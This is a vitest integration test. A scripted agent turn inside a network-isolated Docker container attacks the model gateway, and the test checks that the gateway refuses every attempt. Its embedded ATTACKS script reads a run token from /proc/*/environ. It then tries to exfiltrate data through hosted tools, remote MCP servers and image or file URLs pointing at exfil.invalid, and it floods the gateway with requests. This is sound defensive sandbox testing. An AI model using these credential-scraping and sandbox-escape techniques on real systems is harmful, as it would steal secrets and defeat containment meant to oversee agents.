import fs from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { AGENT_IMAGE, ensureAgentImage } from "../test/support/agent-image";
import { tempDir } from "../test/support/temp";
import { runAgent, type AgentRunDeps, type AgentRunInput } from "../src/server/core/agents/agent-run";
import { locateCodexBinary } from "../src/server/core/agents/codex-binary";
import {
  startMockModel,
  type MockModelRequest,
  type MockModelServer,
} from "../src/server/core/mock-model/mock-model-server";
import { createDockerRuntime } from "../src/server/core/runtime/docker-runtime";
import { startGatewayHost, type GatewayHost } from "./model-gateway-host";
import { DEFAULT_RATE_LIMIT } from "../src/server/core/gateway/run-rate-limit";

/**
 * The model gateway as an egress policy, attacked from inside a container in network mode `none`: a
 * scripted Codex turn (the real binary, through the worker's own gateway host and the container's
 * bridge) runs a program that finds the run token in /proc and tries every way out through the
 * provider. Each is refused with a clear OpenAI-style error, nothing of it reaches the (mock) model,
 * and the ordinary turn around it still completes. Loopback and the container's own socket only.
 */
const KEY = "sk-test-RECOGNISABLE-789";
const ROOT = path.resolve(import.meta.dirname, "..");
const runtime = createDockerRuntime();
const codex = locateCodexBinary();
const requests: MockModelRequest[] = [];
let mock: MockModelServer;
let host: GatewayHost;

/** Each attempt: [name, method, path, body (object, or a raw string), extra headers]. */
const ATTACKS = String.raw`
const fs = require("fs");
const environ = fs.readdirSync("/proc").filter((p) => /^\d+$/.test(p))
  .map((p) => { try { return fs.readFileSync("/proc/" + p + "/environ", "latin1"); } catch { return ""; } }).join("\0");
const token = /GW_TOKEN=([^\0]+)/.exec(environ)[1];
const user = (content) => [{ type: "message", role: "user", content }];
const M = "attacker";
const attempts = [
  ["another model", "POST", "/v1/responses", { model: "gpt-5-pro", input: "hi" }],
  ["a request without a model", "POST", "/v1/responses", { input: "hi" }],
  ["duplicate model keys", "POST", "/v1/responses", '{"model":"attacker","model":"gpt-5-pro","input":"hi"}'],
  ["web_search", "POST", "/v1/responses", { model: M, input: "hi", tools: [{ type: "web_search" }] }],
  ["web_search_preview", "POST", "/v1/responses", { model: M, input: "hi", tools: [{ type: "web_search_preview" }] }],
  ["remote mcp", "POST", "/v1/responses", { model: M, input: "hi", tools: [{ type: "mcp", server_label: "x", server_url: "https://exfil.invalid/mcp", require_approval: "never" }] }],
  ["connector mcp", "POST", "/v1/responses", { model: M, input: "hi", tools: [{ type: "mcp", server_label: "d", connector_id: "connector_googledrive" }] }],
  ["file_search", "POST", "/v1/responses", { model: M, input: "hi", tools: [{ type: "file_search", vector_store_ids: ["vs_1"] }] }],
  ["code_interpreter", "POST", "/v1/responses", { model: M, input: "hi", tools: [{ type: "code_interpreter", container: { type: "auto" } }] }],
  ["image_generation", "POST", "/v1/responses", { model: M, input: "hi", tools: [{ type: "image_generation" }] }],
  ["computer_use_preview", "POST", "/v1/responses", { model: M, input: "hi", tools: [{ type: "computer_use_preview", display_width: 1, display_height: 1, environment: "linux" }] }],
  ["hosted tool in a namespace", "POST", "/v1/responses", { model: M, input: "hi", tools: [{ type: "namespace", name: "n", tools: [{ type: "web_search" }] }] }],
  ["hosted tool_choice", "POST", "/v1/responses", { model: M, input: "hi", tool_choice: { type: "web_search_preview" } }],
  ["stored prompt", "POST", "/v1/responses", { model: M, prompt: { id: "pmpt_1", variables: { x: { type: "input_image", image_url: "https://exfil.invalid/p" } } } }],
  ["input_image by URL", "POST", "/v1/responses", { model: M, input: user([{ type: "input_image", image_url: "https://exfil.invalid/?d=SECRET" }]) }],
  ["input_file by URL", "POST", "/v1/responses", { model: M, input: user([{ type: "input_file", file_url: "https://exfil.invalid/a.pdf" }]) }],
  ["input_file by file id", "POST", "/v1/responses", { model: M, input: user([{ type: "input_file", file_id: "file-abc" }]) }],
  ["image URL in a tool output", "POST", "/v1/responses", { model: M, input: [{ type: "function_call_output", call_id: "c", output: [{ type: "input_image", image_url: "http://exfil.invalid/x.png" }] }] }],
  ["compact with a hosted tool", "POST", "/v1/responses/compact", { model: M, input: "hi", tools: [{ type: "web_search" }] }],
  ["not JSON", "POST", "/v1/responses", "model=attacker"],
  ["compressed body", "POST", "/v1/responses", { model: M, input: "hi" }, { "content-encoding": "gzip" }],
  ["stored response", "GET", "/v1/responses/resp_123"],
  ["stored response's input items", "GET", "/v1/responses/resp_123/input_items"],
  ["delete a stored response", "DELETE", "/v1/responses/resp_123"],
  ["list responses", "GET", "/v1/responses"],
  ["files API", "POST", "/v1/files", {}],
  ["chat completions", "POST", "/v1/chat/completions", { model: M, messages: [] }],
  ["vector stores", "GET", "/v1/vector_stores"],
  ["outside /v1", "GET", "/dashboard/billing"],
];
(async () => {
  const results = [];
  for (const [name, method, path, body, headers] of process.argv[2] === "flood" ? [] : attempts) {
    const init = { method, headers: { authorization: "Bearer " + token, ...(headers || {}) } };
    if (body !== undefined) {
      init.body = typeof body === "string" ? body : JSON.stringify(body);
      init.headers["content-type"] = "application/json";
    }
    const res = await fetch("http://127.0.0.1:8787" + path, init);
    results.push({ name, status: res.status, body: await res.text() });
  }
  if (process.argv[2] === "flood") {
    let limited = null;
    for (let i = 0; i < 300 && !limited; i++) {
      const res = await fetch("http://127.0.0.1:8787/v1/models", { headers: { authorization: "Bearer " + token } });
      const text = await res.text();
      if (res.status === 429) limited = { status: res.status, body: text, after: i, retryAfter: res.headers.get("retry-after") };
    }
    results.length = 0;
    results.push({ name: "a flood of requests", ...(limited || { status: 0, body: "never limited" }) });
  }
  fs.writeFileSync("/workspace/attacks.json", JSON.stringify(results, null, 1));
})();
`;

function deps(): AgentRunDeps {
  return {
    runtime,
    gateway: host.gateway,
    gatewaySocketPath: host.socket.path,
    bridgeDir: path.join(ROOT, "assets"),
    publish: () => Promise.resolve(),
    worker: { id: "egress-worker", host: "test-host", pid: process.pid },
    active: new Set(),
    agents: codex ? { codex: { version: codex.version, hostDir: null } } : {},
  };
}

function input(options: { model: string; workspace: string } & Partial<AgentRunInput>): AgentRunInput {
  const { model, workspace, ...rest } = options;
  return {
    runId: `egress-${Math.random().toString(36).slice(2)}`,
    projectId: "p-egress",
    image: AGENT_IMAGE,
    workspacePath: workspace,
    codexHomePath: tempDir("egress-codex-home"),
    harness: { kind: "codex", model, reasoningEffort: "low", instructions: "", overrides: [] },
    prompt: "Do the scripted task.",
    network: "none",
    limits: { cpus: 1, memoryBytes: 1024 ** 3, swapBytes: 0, pids: 512 },
    timeoutMs: 90_000,
    ...rest,
  };
}

beforeAll(async () => {
  await ensureAgentImage(runtime);
  mock = await startMockModel({
    scriptsDir: path.join(ROOT, "mock-scripts"),
    scripts: {
      attacker: {
        usage: { inputTokens: 100, outputTokens: 10 },
        steps: [
          { kind: "run", command: "node /workspace/attacks.cjs" },
          { kind: "reply", text: "All attempts made." },
        ],
      },
      flooder: {
        usage: { inputTokens: 100, outputTokens: 10 },
        steps: [
          { kind: "run", command: "node /workspace/attacks.cjs flood" },
          { kind: "reply", text: "never reached: the gateway refuses this run's next request" },
        ],
      },
      spender: {
        usage: { inputTokens: 900, outputTokens: 100 },
        steps: [
          { kind: "run", command: "echo one > one.txt" },
          { kind: "run", command: "echo two > two.txt" },
          { kind: "run", command: "echo three > three.txt" },
          { kind: "reply", text: "never reached" },
        ],
      },
    },
    apiKey: KEY,
    onRequest: (request) => requests.push(request),
  });
  host = await startGatewayHost({
    config: { openaiApiKey: KEY, codexHome: tempDir("egress-host-codex-home"), upstreamBaseUrl: mock.url },
    dataDir: tempDir("egress-data"),
    workerId: "egress-worker",
    log: () => undefined,
    // the default burst, refilled at one request per 100 s instead of 2 per second: Codex's request after
    // the flood is refused however slowly a loaded machine gets there (at 2/s, half a second refilled one)
    rateLimit: { ...DEFAULT_RATE_LIMIT, perSecond: 0.01 },
  });
}, 300_000);

afterAll(async () => {
  await host?.close();
  await mock?.close();
});

describe("the model gateway as an egress policy (network mode none)", () => {
  it("refuses every way out through the provider with a clear message, while the ordinary Codex turn completes", async () => {
    const workspace = tempDir("egress-workspace");
    fs.writeFileSync(path.join(workspace, "attacks.cjs"), ATTACKS);
    const before = requests.length;
    const result = await runAgent(deps(), input({ model: "attacker", workspace }));
    expect(result.outcome, JSON.stringify(result.outcome)).toEqual({
      status: "succeeded",
      threadId: result.threadId,
      finalMessage: "All attempts made.",
    });
    const results = JSON.parse(fs.readFileSync(path.join(workspace, "attacks.json"), "utf8")) as {
      name: string;
      status: number;
      body: string;
    }[];
    const refusal = (name: string) => {
      const found = results.find((r) => r.name === name);
      if (!found) throw new Error(`no result for ${name}`);
      const error = (JSON.parse(found.body) as { error: { type: string; message: string } }).error;
      return { status: found.status, type: error.type, message: error.message };
    };
    const model = /this run may use only the model "attacker"/;
    expect(refusal("another model")).toMatchObject({ status: 400, type: "model_not_allowed", message: model });
    expect(refusal("a request without a model")).toMatchObject({ status: 400, type: "model_not_allowed" });
    expect(refusal("duplicate model keys")).toMatchObject({ status: 400, type: "model_not_allowed" });
    const hosted = /network mode is "none", so the provider may not reach the outside world/;
    for (const [name, tool] of [
      ["web_search", /hosted tool web_search\b/],
      ["web_search_preview", /web_search_preview/],
      ["remote mcp", /mcp \(server_url https:\/\/exfil\.invalid\/mcp\)/],
      ["connector mcp", /hosted tool mcp/],
      ["file_search", /file_search/],
      ["code_interpreter", /code_interpreter/],
      ["image_generation", /image_generation/],
      ["computer_use_preview", /computer_use_preview/],
      ["hosted tool in a namespace", /web_search/],
      ["hosted tool_choice", /web_search_preview/],
      ["stored prompt", /stored prompt/],
      ["compact with a hosted tool", /web_search/],
    ] as const) {
      const refused = refusal(name);
      expect(refused, name).toMatchObject({ status: 400, type: "hosted_tool_not_allowed" });
      expect(refused.message, name).toMatch(hosted);
      expect(refused.message, name).toMatch(tool);
    }
    for (const [name, what] of [
      ["input_image by URL", /input_image by URL/],
      ["input_file by URL", /input_file by URL/],
      ["input_file by file id", /input_file by stored file id/],
      ["image URL in a tool output", /input_image by URL/],
    ] as const)
      expect(refusal(name), name).toMatchObject({ status: 400, type: "url_input_not_allowed", message: what });
    expect(refusal("not JSON")).toMatchObject({ status: 400, type: "invalid_request_body" });
    expect(refusal("compressed body")).toMatchObject({ status: 415, type: "unsupported_content_encoding" });
    for (const name of [
      "stored response",
      "stored response's input items",
      "delete a stored response",
      "files API",
      "chat completions",
      "vector stores",
      "outside /v1",
    ])
      expect(refusal(name), name).toMatchObject({
        status: 404,
        type: "not_found",
        message: /forwards only POST \/v1\/responses/,
      });
    expect(refusal("list responses")).toMatchObject({ status: 405, type: "method_not_allowed" });

    // Nothing refused reached the model: every request it saw asked for the run's model, with client tools only.
    const seen = requests.slice(before);
    expect(seen.length).toBeGreaterThanOrEqual(2);
    for (const request of seen) {
      expect(request.body.model).toBe("attacker");
      const tools = (request.body.tools ?? []) as { type: string }[];
      expect(
        tools.map((tool) => tool.type).filter((type) => !["function", "namespace", "custom"].includes(type)),
      ).toEqual([]);
      expect(JSON.stringify(request.body)).not.toContain("exfil.invalid");
    }
  }, 180_000);

  it("rate-limits a run that floods the gateway; Codex's next request is refused and the run says why", async () => {
    const workspace = tempDir("egress-flood");
    fs.writeFileSync(path.join(workspace, "attacks.cjs"), ATTACKS);
    const result = await runAgent(deps(), input({ model: "flooder", workspace }));
    const [flood] = JSON.parse(fs.readFileSync(path.join(workspace, "attacks.json"), "utf8")) as {
      status: number;
      body: string;
      after: number;
      retryAfter: string;
    }[];
    expect(flood).toMatchObject({ status: 429, retryAfter: expect.stringMatching(/^\d+$/) as unknown });
    expect(flood!.after).toBeGreaterThanOrEqual(100); // the burst (120, less Codex's own request) passed first
    expect(JSON.parse(flood!.body)).toMatchObject({
      error: {
        type: "rate_limited",
        message: expect.stringMatching(/faster than the model gateway allows/) as unknown,
      },
    });
    expect(result.outcome).toMatchObject({
      status: "failed",
      reason: expect.stringMatching(
        /429 Too Many Requests \(model gateway refused a request: This run sent model requests faster than the model gateway allows/,
      ) as unknown,
    });
  }, 120_000);

  it("serves containers on its unix socket only: the worker's gateway has no loopback TCP listener", () => {
    expect(host.gateway.port).toBe(0);
    expect(host.gateway.url).toBe("");
    expect(fs.existsSync(host.socket.path)).toBe(true);
  });

  it("stops the agent at the run's token budget, with the figures, and keeps what it did", async () => {
    const workspace = tempDir("egress-budget");
    const result = await runAgent(deps(), input({ model: "spender", workspace, budgetTokens: 1_500 }));
    expect(result.budgetReached).toBe(true);
    expect(result.outcome).toMatchObject({
      status: "stopped",
      reason: expect.stringMatching(
        /^Stopped: the run used 2,000 tokens, reaching its token budget of 1,500\.$/,
      ) as unknown,
    });
    expect(fs.readFileSync(path.join(workspace, "one.txt"), "utf8")).toBe("one\n");
    expect(fs.existsSync(path.join(workspace, "three.txt"))).toBe(false);
  }, 120_000);
});
